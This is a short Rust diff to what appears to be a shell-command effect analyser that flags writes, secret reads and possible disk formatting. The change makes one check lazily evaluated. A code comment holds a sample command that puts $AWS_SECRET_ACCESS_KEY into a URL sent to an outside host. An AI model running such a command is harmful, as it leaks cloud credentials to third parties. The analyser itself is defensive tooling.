@@ -40,7 +40,7 @@ impl<'a> Analysis<'a> {
             let text = word.val.lit().unwrap_or_default().trim_start_matches('-');
             self.know.places().listed("words-for-looking", text)
         };
-        let looks = words.iter().any(asks);
+        let looks = || words.iter().any(asks);
         for (at, word) in words.iter().enumerate().skip(1) {
             let Some(text) = word.val.lit() else {
                 // `frobnicate https://example.com/?k=$AWS_SECRET_ACCESS_KEY`
@@ -63,7 +63,7 @@ impl<'a> Analysis<'a> {
                     self.effect(Effect::new(Kind::Write, target, index, word.span));
                 } else if target.classes & secret != 0 {
                     self.effect(Effect::new(Kind::Read, target, index, word.span));
-                } else if target.classes & device != 0 && call.entry.is_none() && !looks {
+                } else if target.classes & device != 0 && call.entry.is_none() && !looks() {
                     // Whoever is given a disk and says nothing of looking may write to it.
                     self.effect(Effect { certain: false, ..Effect::new(Kind::Format, target, index, word.span) });
                 }
